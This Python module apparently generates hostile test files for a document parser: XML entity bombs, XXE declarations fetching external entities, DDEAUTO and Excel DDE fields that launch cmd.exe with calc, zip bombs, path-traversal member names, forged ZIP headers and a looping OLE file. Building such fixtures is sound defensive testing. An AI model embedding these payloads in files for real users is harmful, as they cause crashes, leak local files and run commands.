"""In: nothing. Out: ZIP packages (DOCX, XLSX) and OLE files that explode, lie, nest or point outwards."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
_DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def packed(members: Mapping[str, bytes | str], stored: frozenset[str] = frozenset()) -> bytes:
    """A ZIP archive of members that are dated alike."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            archive.writestr(info, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def relations(*rows: tuple[str, str, str], external: bool = False) -> str:
    """A part of relationships: (id, kind, target) each."""
    mode = ' TargetMode="External"' if external else ""
    body = "".join(f'<Relationship Id="{i}" Type="{R}/{kind}" Target="{to}"{mode}/>' for i, kind, to in rows)
    return f'{HEAD}<Relationships xmlns="{P}">{body}</Relationships>'


def _types(part: str, kind: str) -> str:
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="{kind}"/>'
        "</Types>"
    )


# -- DOCX


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def body(inner: str, declaration: str = "") -> str:
    return f'{HEAD}{declaration}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{inner}</w:body></w:document>'


def docx(document: bytes | str, more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A DOCX of that main part and further parts."""
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _types(MAIN, _DOCX_TYPE),
        "_rels/.rels": relations(("r1", "officeDocument", MAIN)),
        MAIN: document,
    }
    return packed({**members, **(more or {})})


def entities(levels: int, fan: int) -> str:
    """A document type declaration whose last entity &e; holds fan to the power of levels laughs."""
    rows = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * fan}">' for i in range(1, levels + 1))
    return f'<!DOCTYPE bomb [<!ENTITY e0 "笑">{rows}<!ENTITY e "&e{levels};">]>'


def quadratic() -> str:
    """One long entity that is named often."""
    return f'<!DOCTYPE bomb [<!ENTITY e "{"笑" * 100_000}">]>'


def outward_declaration(address: str, canary: str) -> str:
    """Entities and a type declaration that lie elsewhere: a file and an address."""
    return (
        f'<!DOCTYPE x SYSTEM "{address}/x.dtd" [<!ENTITY % p SYSTEM "{address}/p.ent"> %p; '
        f'<!ENTITY e SYSTEM "{canary}"><!ENTITY n SYSTEM "{address}/n.txt">]>'
    )


def nested_tables(depth: int, text: str) -> str:
    opening, closing = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return body(opening * depth + paragraph(text) + closing * depth + paragraph(text))


def nested_runs(depth: int, text: str) -> str:
    return body(paragraph(text) + "<w:p>" + "<w:ins>" * depth + "</w:ins>" * depth + "</w:p>")


def outward_docx(address: str, canary: str, lines: tuple[str, ...]) -> bytes:
    """Relationships of every kind that fetch, fields that run or include, paths that climb out of the package."""
    rows = (
        ("p1", "image", f"{address}/a.png"), ("p2", "attachedTemplate", f"{address}/t.dotm"),
        ("p3", "oleObject", canary), ("p4", "hyperlink", f"{address}/link"), ("p5", "subDocument", canary),
        ("p6", "header", f"{address}/header.xml"), ("p7", "styles", canary), ("p8", "aFChunk", f"{address}/c.html"),
    )  # fmt: skip
    fields = (f'INCLUDETEXT "{canary}"', f'INCLUDEPICTURE "{address}/b.png"', f'IMPORT "{canary}"')
    inner = "".join(map(paragraph, lines)) + "".join(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code.replace(chr(34), '&quot;')}</w:instrText></w:r></w:p>"
        for code in fields
    )
    drawing = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<v:imagedata r:href="p1" src="{address}/v.png"/></v:shape></w:pict></w:r></w:p><w:subDoc r:id="p5"/>'
        '<w:altChunk r:id="p8"/>'
    )
    return docx(body(inner + drawing), {"word/_rels/document.xml.rels": relations(*rows, external=True)})


def climbing_docx(lines: tuple[str, ...]) -> bytes:
    """Members and targets named ../../ and /etc: nothing is unpacked to a disk, so they are names."""
    more = {
        "../../../../tmp/reporter-climbed.txt": "out",
        "/etc/reporter-climbed.txt": "out",
        "C:\\reporter-climbed.txt": "out",
        "word/_rels/document.xml.rels": relations(("s1", "styles", "../../../../etc/hostname")),
    }
    return docx(body("".join(map(paragraph, lines))), more)


def field_docx(lines: tuple[str, ...]) -> bytes:
    """Fields that would run a program if a word processor were asked to renew them; their results are the text."""
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'DDE excel "x"',
        "MACROBUTTON run 按",
        "EQ \\o(甲,乙)",
    )
    made = "".join(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{line}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code, line in zip(codes, lines, strict=False)
    )
    return docx(body(made + "".join(map(paragraph, lines[len(codes) :]))))


def looping_styles(lines: tuple[str, ...]) -> bytes:
    """Styles that are based on each other in a circle, a numbering that leads to itself."""
    styles = (
        f'{HEAD}<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/>'
        '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        '<w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/><w:link w:val="a"/></w:style></w:styles>'
    )
    numbering = (
        f'{HEAD}<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/>'
        '<w:styleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    rows = relations(("s", "styles", "styles.xml"), ("n", "numbering", "numbering.xml"))
    text = "".join(f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>{line}</w:t></w:r></w:p>' for line in lines)
    more = {"word/styles.xml": styles, "word/numbering.xml": numbering, "word/_rels/document.xml.rels": rows}
    return docx(body(text), more)


def wide_spans(lines: tuple[str, ...]) -> bytes:
    """A table whose cells claim to span two thousand million columns."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge/></w:tcPr>' + paragraph("甲") + "</w:tc>"
    return docx(body("".join(map(paragraph, lines)) + f"<w:tbl><w:tr>{cell * 50}</w:tr></w:tbl>"))


def many_attributes(lines: tuple[str, ...], count: int) -> bytes:
    flood = " ".join(f'w:a{number}="1"' for number in range(count))
    return docx(body("".join(map(paragraph, lines)) + f"<w:p {flood}/>"))


def nested_archives(depth: int, text: str) -> bytes:
    inner = packed({"a.txt": text * 100_000})
    for level in range(depth):
        inner = packed({f"{level}-{copy}.zip": inner for copy in range(10)})
    return inner


def many_members(count: int, lines: tuple[str, ...]) -> bytes:
    return docx(body("".join(map(paragraph, lines))), {f"word/x/{number}": "" for number in range(count)})


def lying_sizes(data: bytes, name: str, size: int) -> bytes:
    """The archive whose directory states another unpacked size for a member."""
    return _patched(data, name, 24, struct.pack("<I", size))


def unknown_method(data: bytes, name: str) -> bytes:
    return _patched(data, name, 10, struct.pack("<H", 99))


def locked(data: bytes, name: str) -> bytes:
    return _patched(data, name, 8, struct.pack("<H", 1))


def _patched(data: bytes, name: str, offset: int, value: bytes) -> bytes:
    """Some bytes changed in a member's record of the central directory (APPNOTE 4.3.12)."""
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()) + 1) + offset
    return data[:at] + value + data[at + len(value) :]


def overlapping(copies: int) -> bytes:
    """Members that all unpack the same bytes: the directory names one place many times."""
    data = docx(body(paragraph("重要工作。" * 5_000)))
    first, start = data.index(b"PK\x01\x02"), data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    record = data[start:end]
    name = MAIN.encode()
    more = b"".join(record.replace(name, name[:-4] + f"{number:04d}".encode()) for number in range(copies))
    made = data[first:end] + more
    count = struct.pack("<HH", copies + 3, copies + 3)
    return data[:first] + made + data[end : end + 8] + count + struct.pack("<II", len(made), first) + b"\0\0"


# -- XLSX


def xlsx(sheet: bytes | str, more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A workbook of one sheet and further parts."""
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _types("xl/workbook.xml", _XLSX_TYPE),
        "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": _book('<sheet name="表" sheetId="1" r:id="r1"/>'),
        "xl/_rels/workbook.xml.rels": relations(("r1", "worksheet", "worksheets/sheet1.xml")),
        SHEET: sheet,
    }
    return packed({**members, **(more or {})})


def _book(sheets: str) -> str:
    return f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{sheets}</sheets></workbook>'


def rows_of(cells: list[list[str]]) -> str:
    """The rows of a sheet whose cells hold texts, from A1."""
    made = ""
    for number, row in enumerate(cells, 1):
        texts = "".join(
            f'<c r="{chr(65 + index)}{number}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
            for index, text in enumerate(row)
        )
        made += f'<row r="{number}">{texts}</row>'
    return made


def sheet_of(inner: str, tail: str = "", declaration: str = "") -> str:
    return f'{HEAD}{declaration}<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData>{inner}</sheetData>{tail}</worksheet>'


def far_cells(rows: str) -> bytes:
    """Cells at the very end of the widest sheet and beyond it, merged over all of it."""
    far = (
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        '<row r="999999999"><c r="ZZZZ999999999"><v>2</v></c></row>'
        '<row r="-3"><c r="A-3"><v>3</v></c><c r="乙"><v>4</v></c><c r="B2" t="s"><v>99999999</v></c></row>'
    )
    merged = '<mergeCells count="2"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="Z9:A1"/></mergeCells>'
    return xlsx(sheet_of(rows + far, merged))


def outward_xlsx(address: str, canary: str, rows: str) -> bytes:
    """A connection, a link to another workbook, a picture from afar, and cells with WEBSERVICE and DDE formulas."""
    formulas = (
        f'<row r="9"><c r="A9" t="str"><f>WEBSERVICE("{address}/w")</f><v>远</v></c>'
        f'<c r="B9" t="str"><f>cmd|\'/c calc\'!A0</f><v>近</v></c></row>'
    )
    rels = relations(("l1", "externalLinkPath", canary), ("l2", "image", f"{address}/i.png"), external=True)
    connection = (
        f'{HEAD}<connections xmlns="{S}"><connection id="1" name="x" type="4" refreshOnLoad="1">'
        f'<webPr url="{address}/c"/></connection></connections>'
    )
    more = {"xl/worksheets/_rels/sheet1.xml.rels": rels, "xl/connections.xml": connection}
    return xlsx(sheet_of(rows + formulas), more)


def many_sheets(count: int) -> bytes:
    sheets = "".join(f'<sheet name="表{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, count + 1))
    return xlsx(sheet_of(rows_of([["名称", "数量"], ["甲", "1"]])), {"xl/workbook.xml": _book(sheets)})


# -- compound files, as MS-CFB tells them


def looping_ole() -> bytes:
    """A compound file whose directory chain turns in a circle."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)
    struct.pack_into("<HH", header, 30, 9, 6)
    struct.pack_into("<III", header, 44, 1, 1, 0)
    struct.pack_into("<IIIII", header, 56, 4096, 0xFFFFFFFE, 0, 0, 1)
    struct.pack_into("<109I", header, 76, 0, *([0xFFFFFFFF] * 108))
    table = struct.pack("<128I", 0xFFFFFFFD, 2, 1, *([0xFFFFFFFF] * 125))
    return bytes(header) + table + bytes(1024)
